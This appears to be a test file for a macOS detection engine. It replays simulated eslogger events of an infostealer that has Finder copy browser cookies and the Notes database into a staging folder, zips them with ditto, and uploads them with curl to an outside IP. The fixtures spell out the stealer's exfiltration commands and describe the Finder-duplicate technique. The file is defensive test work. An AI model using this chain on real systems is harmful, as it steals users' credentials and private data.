/**
 * AMOS's AppleScript (and Banshee's, Poseidon's) has Finder copy what osascript itself may not read:
 * `tell application "Finder" to duplicate file "Cookies.binarycookies" …`, the Notes store, the keychain folder,
 * Desktop and Documents files, into the staging folder. Finder does the read (a clone of the file), in Finder's own
 * lineage group; the stealer's group (osascript → sh → ditto, curl) archives the staging folder and uploads it.
 * Over TLS the archive alone makes an AN1415 candidate. Over plain HTTP (AMOS's and Banshee's
 * `curl -X POST … http://<IP>/…`) AN0425 wants a tier-1/2 read by the group (or the archive and an upload-shaped
 * flow, archive-then-cleartext-upload.test.ts): ditto's reads of Finder's copies are that read, since the eslogger
 * pipeline follows an unauthorized copy of a tier-1 file to where it went (collectors/eslogger/sensitive-copies.ts).
 * Here the rows come from eslogger lines through the pipeline.
 */
import { describe, expect, it } from 'vitest';
import { body, esLine, type ProcSpec } from '../../collectors/eslogger/testing/es-lines.mjs';
import { recordedSensitive } from '../../collectors/eslogger/testing/test-context.js';
import { correlate } from './correlate.js';
import { MiB, NOW, TERMINAL, TERMINAL_SIGNING, ZSH, buildWorld } from './testing/world.js';

const FINDER = { pid: 400, processStart: NOW - 80_000, ppid: 1, originalPpid: 1, path: '/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder', signingId: 'com.apple.finder', platformBinary: true };
const OSA = { pid: 820, processStart: NOW - 300, ppid: ZSH.pid, path: '/usr/bin/osascript', args: ['osascript', '-e', 'on readwrite…'], tty: true, signingId: 'com.apple.osascript', platformBinary: true };
const SH1 = { pid: 830, processStart: NOW - 70, ppid: OSA.pid, path: '/bin/sh', args: ['sh', '-c', 'ditto -c -k --sequesterRsrc /tmp/salmonela/ /tmp/salmonela.zip'], signingId: 'com.apple.sh', platformBinary: true };
const DITTO = { pid: 831, processStart: NOW - 70, ppid: SH1.pid, path: '/usr/bin/ditto', signingId: 'com.apple.ditto', platformBinary: true };
const SH2 = { pid: 840, processStart: NOW - 60, ppid: OSA.pid, path: '/bin/sh', args: ['sh', '-c', 'curl -X POST -F lil-arch=@/tmp/salmonela.zip http://…'], signingId: 'com.apple.sh', platformBinary: true };
const CURL = { pid: 841, processStart: NOW - 60, ppid: SH2.pid, path: '/usr/bin/curl', signingId: 'com.apple.curl', platformBinary: true };

const spec = (p: { pid: number; ppid: number; processStart: number; path: string; signingId: string }): ProcSpec => ({ pid: p.pid, ppid: p.ppid, path: p.path, platform: true, signingId: p.signingId, startMs: p.processStart * 1000 });
const COOKIES = '/Users/alice/Library/Cookies/Cookies.binarycookies';
const NOTES = '/Users/alice/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite';
/** What eslogger reports: Finder's clones into the staging folder, then ditto reading the folder to zip it. */
const ES_LINES = [
  esLine({ kind: 'clone', timeMs: (NOW - 120) * 1000, gseq: 1, process: spec(FINDER), body: body.clone(COOKIES, '/private/tmp/salmonela', 'Cookies.binarycookies') }),
  esLine({ kind: 'clone', timeMs: (NOW - 110) * 1000, gseq: 2, process: spec(FINDER), body: body.clone(NOTES, '/private/tmp/salmonela', 'NoteStore.sqlite') }),
  esLine({ kind: 'open', timeMs: (NOW - 70) * 1000, gseq: 3, process: spec(DITTO), body: body.open('/private/tmp/salmonela/Cookies.binarycookies') }),
  esLine({ kind: 'open', timeMs: (NOW - 70) * 1000, gseq: 4, process: spec(DITTO), body: body.open('/private/tmp/salmonela/NoteStore.sqlite') }),
];
const sensitive = recordedSensitive(NOW, ES_LINES);

const world = (port: number) =>
  buildWorld({
    processes: [TERMINAL, ZSH, FINDER, OSA, SH1, DITTO, SH2, CURL],
    signing: [...TERMINAL_SIGNING, { path: FINDER.path, cls: 'apple_platform', signingId: 'com.apple.finder' }],
    sensitive,
    archive: [{ pid: DITTO.pid, ppid: SH1.pid, process_start: DITTO.processStart, path: DITTO.path, time: NOW - 70, archive_path: '/tmp/salmonela.zip', args: 'ditto -c -k --sequesterRsrc /tmp/salmonela/ /tmp/salmonela.zip', staging: 1 }],
    flows: [{ pid: CURL.pid, processStart: CURL.processStart, remote: '45.142.122.92', remotePort: port, bytesOut: 3 * MiB, bytesIn: 400, firstSeen: NOW - 55, lastSeen: NOW - 50 }],
  });
const candidates = (port: number) => correlate(world(port)).rows;

describe('reads done by Finder on the stealer\'s behalf (AppleScript `duplicate`)', () => {
  it("Finder's clones are Finder's reads; ditto's reads of the copies are the stealer group's, of the same secrets", () => {
    expect(sensitive.map((r) => [r.pid, r.file_path, r.category, r.tier])).toEqual([
      [FINDER.pid, COOKIES, 'browser_secrets', 1],
      [FINDER.pid, NOTES, 'personal_data', 2],
      // the Notes store is tier 2: its copy is not followed
      [DITTO.pid, '/tmp/salmonela/Cookies.binarycookies', 'browser_secrets', 1],
    ]);
  });

  it('over TLS the upload is an AN0990 and an AN1415 candidate', () => {
    expect(candidates(443).map((r) => r.analytic)).toEqual(expect.arrayContaining(['AN0990', 'AN1415']));
  });

  it("over plain HTTP the upload is an AN0425 candidate, its precursor ditto's read of the copied cookies", () => {
    const rows = candidates(80).filter((r) => r.analytic === 'AN0425');
    expect(rows).toEqual([expect.objectContaining({ precursor_kind: 'sensitive_access', precursor_pid: DITTO.pid, precursor_tier: 1, precursor_path: '/tmp/salmonela/Cookies.binarycookies', precursor_category: 'browser_secrets' })]);
  });
});
